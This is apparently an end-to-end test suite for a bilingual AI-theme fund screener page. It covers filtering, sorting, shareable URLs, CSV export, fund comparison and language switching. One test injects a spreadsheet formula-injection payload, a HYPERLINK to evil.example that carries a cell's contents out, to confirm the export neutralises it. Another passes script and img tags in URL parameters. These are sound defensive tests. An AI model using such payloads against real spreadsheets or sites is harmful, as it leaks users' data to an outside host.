import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';

import { BASE_URL, breakDataset, datasetPattern, launch, openPage } from './harness.mjs';

// Expectations are computed from the dataset the app serves, never hard-coded.
const dataset = JSON.parse(
  readFileSync(new URL('../../public/data/2024-10/funds.json', import.meta.url), 'utf8'),
);
const funds = dataset.funds;
const above20 = funds.filter((f) => f.return3m !== null && f.return3m >= 20);
const best1m = [...funds]
  .filter((f) => f.return1m !== null)
  .sort((a, b) => b.return1m - a.return1m)[0];

let browser;
before(async () => {
  browser = await launch();
});
after(async () => {
  await browser?.close();
});

const GRID = { zh: '人工智能主题基金', en: 'AI-theme funds' };

function grid(page, lang = 'zh') {
  return page.locator(`section[aria-label="${GRID[lang]}"]`);
}

/** Text of one cell of the row displayed at `index` (after sort and filter). */
async function cellText(page, index, colId, lang = 'zh') {
  return (
    await grid(page, lang)
      .locator(`[role="row"][row-index="${index}"] [col-id="${colId}"]`)
      .textContent()
  )?.trim();
}

/** Scrolls the grid body so the last rows are rendered (AG Grid virtualises rows). */
async function scrollGrid(page, to, lang = 'zh') {
  await grid(page, lang)
    .locator('[role="grid"]')
    .evaluate((el, top) => el.scrollTo({ top: top === 'bottom' ? el.scrollHeight : 0 }), to);
}

async function waitForGrid(page, lang = 'zh') {
  await grid(page, lang).locator('[role="row"][row-index="0"]').waitFor();
}

async function countLine(page) {
  return (await page.locator('.count-line').textContent())?.trim();
}

/** Minimal RFC 4180 parser (AG Grid quotes every cell). */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell.replace(/\r$/, ''));
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell.replace(/\r$/, ''));
    rows.push(row);
  }
  return rows;
}

async function downloadCsv(page, buttonName) {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: buttonName }).click(),
  ]);
  const path = await download.path();
  return { name: download.suggestedFilename(), text: readFileSync(path, 'utf8') };
}

describe('funds (表3 screener)', () => {
  it('filters to a 3-month return of at least 20% and shows the right count (zh)', async () => {
    const { context, page, problems } = await openPage(browser, { locale: 'zh-CN' });
    await page.goto(`${BASE_URL}/funds`);
    await page.getByRole('heading', { level: 1, name: '基金' }).waitFor();
    await waitForGrid(page);
    assert.equal(await countLine(page), `${funds.length} 只基金中的 ${funds.length} 只`);
    await page.getByLabel('近3月回报（%）下限').fill('20');
    await page
      .locator('.count-line')
      .getByText(`${funds.length} 只基金中的 ${above20.length} 只`)
      .waitFor();
    assert.equal(new URL(page.url()).searchParams.get('min3m'), '20');
    // The grid holds exactly those funds.
    // aria-rowcount counts the header row too.
    const rowCount = await grid(page).locator('[role="grid"]').getAttribute('aria-rowcount');
    assert.equal(Number(rowCount) - 1, above20.length);
    // The preset is the same screen, and shows as pressed.
    assert.equal(
      await page.getByRole('button', { name: '近3月回报 ≥ 20%' }).getAttribute('aria-pressed'),
      'true',
    );
    assert.deepEqual(problems, []);
    await context.close();
  });

  it('sorts by 1-month return, best first, blanks last in both directions; the URL reproduces the view in a fresh browser', async () => {
    const { context, page, problems } = await openPage(browser, { locale: 'zh-CN' });
    await page.goto(`${BASE_URL}/funds`);
    await waitForGrid(page);
    await page.getByRole('button', { name: '近3月回报 ≥ 20%' }).click();
    await page.locator('.count-line').getByText(`中的 ${above20.length} 只`).waitFor();
    await grid(page).locator('.ag-header-cell[col-id="r1m"] .ag-header-cell-label').click();
    await page.waitForFunction(
      () => new URL(location.href).searchParams.get('sort') === 'r1m.desc',
    );
    assert.equal(best1m.name.zh, '万家人工智能A');
    assert.equal(await cellText(page, 0, 'name'), '万家人工智能A');
    assert.match((await cellText(page, 0, 'r1m')) ?? '', /^▲ \+11\.29%$/);

    // Without the filter, the three blank 1-month returns come last, descending and ascending.
    await page.getByRole('button', { name: '近3月回报 ≥ 20%' }).click();
    await page.locator('.count-line').getByText(`中的 ${funds.length} 只`).waitFor();
    await scrollGrid(page, 'bottom');
    assert.equal(await cellText(page, funds.length - 1, 'r1m'), '—');
    assert.equal(await cellText(page, funds.length - 3, 'r1m'), '—');
    await grid(page).locator('.ag-header-cell[col-id="r1m"] .ag-header-cell-label').click();
    await page.waitForFunction(() => new URL(location.href).searchParams.get('sort') === 'r1m.asc');
    await scrollGrid(page, 'bottom');
    assert.equal(await cellText(page, funds.length - 1, 'r1m'), '—');
    assert.equal(await cellText(page, funds.length - 3, 'r1m'), '—');
    await scrollGrid(page, 'top');
    assert.match((await cellText(page, 0, 'r1m')) ?? '', /^▲ \+1\.67%$/);

    // Back to the filtered, descending view; then open its address in a new context.
    await page.getByRole('button', { name: '近3月回报 ≥ 20%' }).click();
    await grid(page).locator('.ag-header-cell[col-id="r1m"] .ag-header-cell-label').click();
    await grid(page).locator('.ag-header-cell[col-id="r1m"] .ag-header-cell-label').click();
    await page.waitForFunction(
      () => new URL(location.href).searchParams.get('sort') === 'r1m.desc',
    );
    await page.getByLabel('搜索代码或名称').fill('人工智能');
    await page.waitForFunction(() => new URL(location.href).searchParams.get('q') === '人工智能');
    const shared = page.url();
    assert.deepEqual(problems, []);
    await context.close();

    const fresh = await openPage(browser, { locale: 'zh-CN' });
    await fresh.page.goto(shared);
    await waitForGrid(fresh.page);
    const expected = above20.filter((f) =>
      `${f.code}${f.name.zh}${f.name.en}`.includes('人工智能'),
    );
    assert.equal(await countLine(fresh.page), `${funds.length} 只基金中的 ${expected.length} 只`);
    assert.equal(await cellText(fresh.page, 0, 'name'), '万家人工智能A');
    assert.equal(
      await grid(fresh.page).locator('.ag-header-cell[col-id="r1m"]').getAttribute('aria-sort'),
      'descending',
    );
    assert.equal(await fresh.page.getByLabel('近3月回报（%）下限').inputValue(), '20');
    assert.equal(await fresh.page.getByLabel('搜索代码或名称').inputValue(), '人工智能');
    assert.deepEqual(fresh.problems, []);
    await fresh.context.close();
  });

  it('exports exactly the rows and columns shown to CSV, headers in the current language', async () => {
    const { context, page, problems } = await openPage(browser, {
      locale: 'zh-CN',
      acceptDownloads: true,
    });
    await page.goto(`${BASE_URL}/funds?min3m=20&sort=r1m.desc&hide=type,price`);
    await waitForGrid(page);
    const { name, text } = await downloadCsv(page, '导出 CSV');
    assert.equal(name, 'ai-funds-2024-10-31.csv');
    const rows = parseCsv(text.replace(/^\uFEFF/, ''));
    assert.deepEqual(rows[0], [
      '基金代码',
      '基金简称',
      '份额',
      '类别',
      '规模（亿元）',
      '近1月回报（%）',
      '近3月回报（%）',
      '近6月回报（%）',
    ]);
    const body = rows.slice(1);
    assert.equal(body.length, above20.length);
    assert.deepEqual(body[0], [
      '006281.OF',
      '万家人工智能A',
      'A',
      '主动管理',
      '16.63',
      '11.29',
      '23.11',
      '20.22',
    ]);
    assert.deepEqual(new Set(body.map((r) => r[0])), new Set(above20.map((f) => f.code)));
    // Numbers stay numbers; the † marker is for the screen only.
    assert.ok(body.every((r) => !r[0].includes('†') && !r[5].startsWith("'")));
    assert.deepEqual(problems, []);
    await context.close();
  });

  it('a hostile fund name is shown literally in the grid and neutralised in the CSV', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const { context, page, problems } = await openPage(browser, {
      locale: 'en-US',
      acceptDownloads: true,
    });
    await page.route(datasetPattern('funds'), async (route) => {
      const response = await route.fetch();
      const json = await response.json();
      json.funds[0].name = { zh: hostile, en: hostile };
      json.funds[0].return1m = -3.16;
      json.funds[1].name = { zh: '@SUM(1+1)', en: '+1-2' };
      return route.fulfill({ response, json });
    });
    await page.goto(`${BASE_URL}/funds?lang=en&q=${encodeURIComponent('=HYPERLINK')}`);
    await waitForGrid(page, 'en');
    assert.equal(await cellText(page, 0, 'name', 'en'), hostile);
    assert.match((await cellText(page, 0, 'r1m', 'en')) ?? '', /^▼ -3\.16%$/);
    const { text } = await downloadCsv(page, 'Export CSV');
    const rows = parseCsv(text.replace(/^\uFEFF/, ''));
    assert.equal(rows[0]?.[1], 'Name');
    assert.equal(rows[0]?.[7], '1M return (%)');
    assert.equal(rows.length, 2);
    assert.equal(rows[1]?.[1], `'${hostile}`);
    // A negative number is data, not a formula: it stays numeric.
    assert.equal(rows[1]?.[7], '-3.16');

    await page.getByLabel('Search code or name').fill('+1-2');
    await page.locator('.count-line').getByText('1 of 28 funds').waitFor();
    await page.waitForFunction(() => new URL(location.href).searchParams.get('q') === '+1-2');
    const second = parseCsv((await downloadCsv(page, 'Export CSV')).text.replace(/^\uFEFF/, ''));
    assert.equal(second[1]?.[1], "'+1-2");
    assert.deepEqual(problems, []);
    await context.close();
  });

  it('selecting two funds shows the comparison chart; the selection is in the URL', async () => {
    const { context, page, problems } = await openPage(browser, { locale: 'zh-CN' });
    await page.goto(`${BASE_URL}/funds`);
    await waitForGrid(page);
    await page.getByText('在表格中勾选基金').waitFor();
    for (const code of ['006281.OF', '159819.OF']) {
      await grid(page).locator(`[role="row"][row-id="${code}"] input[type="checkbox"]`).click();
    }
    await page.waitForFunction(
      () => new URL(location.href).searchParams.get('sel') === '006281.OF,159819.OF',
    );
    const figure = page.locator('figure[aria-label="所选基金回报对比"]');
    await figure.waitFor();
    await page.waitForFunction(
      () => document.querySelector('figure[aria-label="所选基金回报对比"]')?.echartsInstance,
    );
    const categories = await figure.evaluate((el) => el.echartsInstance.getOption().yAxis[0].data);
    assert.deepEqual(categories, ['万家人工智能A', '易方达中证人工智能 ETF']);
    const series = await figure.evaluate((el) =>
      el.echartsInstance.getOption().series.map((s) => s.data.map((d) => d.value)),
    );
    const wanjia = funds.find((f) => f.code === '006281.OF');
    assert.deepEqual(
      series.map((s) => s[0]),
      [wanjia.return1m, wanjia.return3m, wanjia.return6m],
    );
    await page.getByText('已选 2 / 10 只用于对比').waitFor();

    // Order by 6-month return: the chart and the URL follow.
    await page.getByLabel('排序依据').selectOption('r6m');
    await page.waitForFunction(() => new URL(location.href).searchParams.get('csort') === 'r6m');

    // Reload: the selection comes back from the address and the boxes are ticked.
    await page.reload();
    await waitForGrid(page);
    await figure.waitFor();
    assert.equal(
      await grid(page)
        .locator('[role="row"][row-id="159819.OF"] input[type="checkbox"]')
        .isChecked(),
      true,
    );
    assert.deepEqual(problems, []);
    await context.close();
  });

  it('refuses an 11th selection with a visible message', async () => {
    const { context, page, problems } = await openPage(browser, { locale: 'zh-CN' });
    const ten = funds.slice(0, 10).map((f) => f.code);
    await page.goto(`${BASE_URL}/funds?sel=${ten.join(',')}`);
    await waitForGrid(page);
    const eleventh = funds[10];
    await grid(page)
      .locator(`[role="row"][row-id="${eleventh.code}"] input[type="checkbox"]`)
      .click();
    const alert = page.getByRole('alert');
    await alert.getByText(`最多只能选择 10 只基金进行对比，未选中“${eleventh.name.zh}”`).waitFor();
    assert.equal(new URL(page.url()).searchParams.get('sel'), ten.join(','));
    assert.equal(
      await grid(page)
        .locator(`[role="row"][row-id="${eleventh.code}"] input[type="checkbox"]`)
        .isChecked(),
      false,
    );
    assert.deepEqual(problems, []);
    await context.close();
  });

  it('works in English: headers, count, search across both languages, one row per fund, columns, reset', async () => {
    const { context, page, problems } = await openPage(browser, { locale: 'en-US' });
    await page.goto(`${BASE_URL}/funds?lang=en`);
    await page.getByRole('heading', { level: 1, name: 'Funds' }).waitFor();
    await waitForGrid(page, 'en');
    assert.equal(await countLine(page), `${funds.length} of ${funds.length} funds`);
    assert.equal(
      (
        await grid(page, 'en')
          .locator('.ag-header-cell[col-id="size"] .ag-header-cell-text')
          .textContent()
      )?.trim(),
      'Size (CNY 100M)',
    );
    // Chinese search text finds funds while English is shown.
    await page.getByLabel('Search code or name').fill('万家');
    await page.locator('.count-line').getByText(`2 of ${funds.length} funds`).waitFor();
    assert.equal(await cellText(page, 0, 'name', 'en'), 'Wanjia AI Fund A');

    // One row per fund: A and C side by side.
    // Controlled by the address: the box shows checked once the URL has changed.
    await page.getByLabel('One row per fund (merge A / C classes)').click();
    await page.waitForFunction(() => new URL(location.href).searchParams.get('one') === '1');
    const fundCount = new Set(funds.map((f) => f.fundKey)).size;
    await page.locator('.count-line').getByText(`1 of ${fundCount} funds`).waitFor();
    assert.equal(await cellText(page, 0, 'name', 'en'), 'Wanjia AI Fund');
    assert.equal(await cellText(page, 0, 'code', 'en'), '006281.OF / 014162.OF');
    assert.equal(await cellText(page, 0, 'r1m', 'en'), '▲ +11.29%');
    assert.equal(await cellText(page, 0, 'r1mC', 'en'), '▲ +11.22%');

    // Column chooser: hide the price columns; the address keeps it.
    await page.getByText('Columns (10/10)').click();
    await page.getByRole('checkbox', { name: 'Close on October 31 (CNY)' }).click();
    await page.waitForFunction(() => new URL(location.href).searchParams.get('hide') === 'price');
    assert.equal(await grid(page, 'en').locator('.ag-header-cell[col-id="price"]').count(), 0);

    // Reset: everything back to the default view, the language stays.
    await page.getByRole('button', { name: 'Reset view' }).click();
    await page
      .locator('.count-line')
      .getByText(`${funds.length} of ${funds.length} funds`)
      .waitFor();
    assert.equal(new URL(page.url()).search, '?lang=en');
    assert.equal(await page.getByLabel('Search code or name').inputValue(), '');
    assert.equal(await grid(page, 'en').locator('.ag-header-cell[col-id="price"]').count(), 1);
    assert.deepEqual(problems, []);
    await context.close();
  });

  it('one row per fund: sorts by a C-class column, selects both classes, exports one header row', async () => {
    const { context, page, problems } = await openPage(browser, {
      locale: 'zh-CN',
      acceptDownloads: true,
    });
    await page.goto(`${BASE_URL}/funds?one=1&sort=r1mC.desc`);
    await waitForGrid(page);
    const fundCount = new Set(funds.map((f) => f.fundKey)).size;
    assert.match(
      (await countLine(page)) ?? '',
      new RegExp(`^${fundCount} 只基金中的 ${fundCount} 只`),
    );
    // The best C class by 1-month return belongs to 万家 (014162.OF).
    const bestC = [...funds]
      .filter((f) => f.shareClass === 'C' && f.return1m !== null)
      .sort((a, b) => b.return1m - a.return1m)[0];
    assert.equal(await cellText(page, 0, 'r1mC'), `▲ +${bestC.return1m.toFixed(2)}%`);
    assert.equal(await cellText(page, 0, 'name'), '万家人工智能');
    await grid(page)
      .locator('[role="row"][row-id="fund:wanjia-ai"] input[type="checkbox"]')
      .first()
      .click();
    await page.waitForFunction(
      () => new URL(location.href).searchParams.get('sel') === '006281.OF,014162.OF',
    );
    await page.locator('figure[aria-label="所选基金回报对比"]').waitFor();

    const { text } = await downloadCsv(page, '导出 CSV');
    const rows = parseCsv(text.replace(/^\uFEFF/, ''));
    assert.equal(rows.length, fundCount + 1);
    // The fund's name is pinned first in this mode; the CSV keeps the order shown.
    assert.deepEqual(rows[0].slice(0, 2), ['基金简称', '基金代码']);
    assert.ok(rows[0].includes('近1月回报（%）（C 类）'));
    assert.deepEqual(rows[1].slice(0, 2), ['万家人工智能', '006281.OF / 014162.OF']);
    assert.deepEqual(problems, []);
    await context.close();
  });

  it('a failed funds dataset shows its error in its own panel and the retry recovers', async () => {
    const { context, page } = await openPage(browser, { locale: 'zh-CN', ignoreConsole: [/500/] });
    const fault = await breakDataset(page, 'funds', 500);
    await page.goto(`${BASE_URL}/funds`);
    await page.getByRole('heading', { level: 1, name: '基金' }).waitFor();
    const alert = page.getByRole('alert').filter({ hasText: 'HTTP 500' }).first();
    await alert.waitFor();
    fault.restore();
    await page.getByRole('button', { name: '重试' }).first().click();
    await waitForGrid(page);
    await context.close();
  });

  it('switching language in place keeps the view, renames headers and re-sorts names', async () => {
    const { context, page, problems } = await openPage(browser, { locale: 'zh-CN' });
    await page.goto(`${BASE_URL}/funds?min3m=20&sort=name.asc`);
    await waitForGrid(page);
    // The grid's accessible name changes with the language: find it by class here.
    const header = page.locator(
      'section.data-grid .ag-header-cell[col-id="name"] .ag-header-cell-text',
    );
    assert.equal((await header.textContent())?.trim(), '基金简称');
    const collate = (lang) =>
      new Intl.Collator(lang === 'zh' ? 'zh-CN' : 'en-US', { numeric: true });
    const first = (lang) =>
      [...above20].sort((a, b) => collate(lang).compare(a.name[lang], b.name[lang]))[0].name[lang];
    assert.equal(await cellText(page, 0, 'name'), first('zh'));
    await page.getByRole('button', { name: 'Switch to English' }).click();
    await page.getByRole('heading', { level: 1, name: 'Funds' }).waitFor();
    await page
      .locator('.count-line')
      .getByText(`${above20.length} of ${funds.length} funds`)
      .waitFor();
    assert.equal((await header.textContent())?.trim(), 'Name');
    assert.equal(await cellText(page, 0, 'name', 'en'), first('en'));
    assert.equal(await page.getByLabel('Min 3M return (%)').inputValue(), '20');
    const url = new URL(page.url());
    assert.equal(url.searchParams.get('min3m'), '20');
    assert.equal(url.searchParams.get('sort'), 'name.asc');
    assert.deepEqual(problems, []);
    await context.close();
  });

  it('data notes are marked in the grid and listed under it', async () => {
    const { context, page } = await openPage(browser, { locale: 'zh-CN' });
    await page.goto(`${BASE_URL}/funds?q=159819`);
    await waitForGrid(page);
    assert.equal(await cellText(page, 0, 'code'), '159819.OF †');
    const note = funds.find((f) => f.code === '159819.OF').notes[0].text.zh;
    await page.locator('.data-notes').getByText(note).waitFor();
    await context.close();
  });

  it('garbage in every parameter falls back to the default view without errors', async () => {
    const { context, page, problems } = await openPage(browser, { locale: 'zh-CN' });
    await page.goto(
      `${BASE_URL}/funds?min3m=abc&max1m=Infinity&class=Z&kind=%3Cscript%3E&sort=r1m.sideways&hide=code&sel=%3Cimg%3E&one=maybe&csort=x&top=9`,
    );
    await waitForGrid(page);
    assert.equal(await countLine(page), `${funds.length} 只基金中的 ${funds.length} 只`);
    assert.equal(await cellText(page, 0, 'code'), funds[0].code);
    assert.deepEqual(problems, []);
    await context.close();
  });
});
